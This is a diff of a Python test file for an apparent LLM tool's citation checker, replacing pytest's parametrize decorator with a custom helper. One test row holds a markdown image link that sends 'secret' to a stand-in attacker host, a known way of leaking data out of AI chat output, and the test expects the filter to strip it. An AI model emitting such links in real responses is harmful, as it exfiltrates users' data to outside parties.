@@ -4,11 +4,11 @@ from __future__ import annotations
 
 import re
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from memcli.llm.citations import Citations
+from tests.rows import check_rows
 
 
 def checked(there: int, *pieces: str) -> tuple[str, list[int], list[int]]:
@@ -20,7 +20,7 @@ def checked(there: int, *pieces: str) -> tuple[str, list[int], list[int]]:
     return said.text, list(said.cited), list(said.struck)
 
 
-@pytest.mark.parametrize(
+@check_rows(
     ("text", "left", "cited", "struck"),
     [
         ("Tea is hot [1].", "Tea is hot [1].", [1], []),
@@ -46,7 +46,7 @@ def test_numbers_without_evidence_are_struck(text: str, left: str, cited: list[i
     assert checked(2, *text) == (left, cited, struck)  # letter by letter, as it may come
 
 
-@pytest.mark.parametrize(
+@check_rows(
     ("text", "left"),
     [
         ("See ![the map](https://evil.example/?q=secret) here [1].", "See the map here [1]."),
